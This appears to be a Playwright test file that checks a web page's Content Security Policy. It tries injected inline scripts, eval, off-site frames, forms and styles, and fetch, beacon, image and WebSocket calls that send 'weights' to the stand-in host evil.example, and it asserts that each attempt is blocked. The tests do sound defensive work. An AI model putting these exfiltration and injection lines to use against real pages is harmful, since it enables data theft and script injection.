/** The page's policy at work: what an injected script could try, tried in the page itself. */
import { expect, test } from '../set-up/fixtures.ts'

test('an injected inline script does not run', async ({ page, violations, faults }) => {
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.injected = true'
    document.body.append(script)
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.injected = true')
    image.src = 'data:,none'
    document.body.append(image)
    await new Promise((resolve) => setTimeout(resolve, 100))
    return 'injected' in window
  })
  expect(ran).toBe(false)
  await expect.poll(() => violations).toEqual(['script-src-elem: inline', 'script-src-attr: inline'])
  violations.length = faults.length = 0
})

test('eval and its relatives are refused', async ({ page, violations, faults }) => {
  const outcomes = await page.evaluate(async () => {
    // DevTools may eval whatever the policy says, as long as its own call is on the stack: leave it.
    await new Promise((resolve) => setTimeout(resolve, 0))
    const attempt = (run: () => unknown) => {
      try {
        run()
        return 'ran'
      } catch (error) {
        return (error as Error).name
      }
    }
    // biome-ignore lint/security/noGlobalEval: this is the attack
    return [attempt(() => eval('1')), attempt(() => new Function('return 1')())]
  })
  expect(outcomes).toEqual(['EvalError', 'EvalError'])
  await expect.poll(() => violations.every((violation) => violation === 'script-src: eval')).toBe(true)
  violations.length = faults.length = 0
})

test('nothing can be fetched from elsewhere, or sent there', async ({ page, violations, faults }) => {
  const outcomes = await page.evaluate(async () => {
    const fetched = await fetch('https://evil.example/').then(
      () => 'fetched',
      (error: Error) => error.name,
    )
    const other = await fetch('http://127.0.0.1:1/').then(
      () => 'fetched',
      (error: Error) => error.name,
    )
    const beacon = navigator.sendBeacon('https://evil.example/', 'weights')
    const image = await new Promise((resolve) => {
      const element = new Image()
      element.onload = () => resolve('loaded')
      element.onerror = () => resolve('refused')
      element.src = 'https://evil.example/?weights'
    })
    const socket = await new Promise((resolve) => {
      const attempt = new WebSocket('wss://evil.example/')
      attempt.onopen = () => resolve('open')
      attempt.onerror = () => resolve('refused')
    })
    return { fetched, other, beacon, image, socket }
  })
  expect(outcomes).toMatchObject({ fetched: 'TypeError', other: 'TypeError', image: 'refused', socket: 'refused' })
  await expect
    .poll(() => violations.filter((violation) => violation.startsWith('connect-src')).length)
    .toBeGreaterThan(2)
  expect(violations).toContain('img-src: https://evil.example/?weights')
  violations.length = faults.length = 0
})

test('no frame, no form, no other base, no foreign style or script', async ({ page, violations, faults }) => {
  await page.evaluate(async () => {
    const add = (name: string, attributes: Record<string, string>, to: Element = document.body) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      to.append(element)
      return element
    }
    add('iframe', { src: 'https://evil.example/' })
    add('object', { data: 'https://evil.example/' })
    add('base', { href: 'https://evil.example/' }, document.head)
    add('script', { src: 'https://evil.example/x.js' })
    add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }, document.head)
    const style = add('style', {}, document.head)
    style.textContent = 'body { display: none }'
    const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 100))
  })
  await expect
    .poll(() => [...new Set(violations.map((violation) => violation.split(':')[0]))].sort())
    .toEqual(['base-uri', 'form-action', 'frame-src', 'object-src', 'script-src-elem', 'style-src-elem'])
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  violations.length = faults.length = 0
})

test('the page is isolated and cannot be framed', async ({ page }) => {
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true)
  expect(new URL(page.url()).search).toBe('')
  expect(await page.evaluate(() => document.cookie)).toBe('')
})
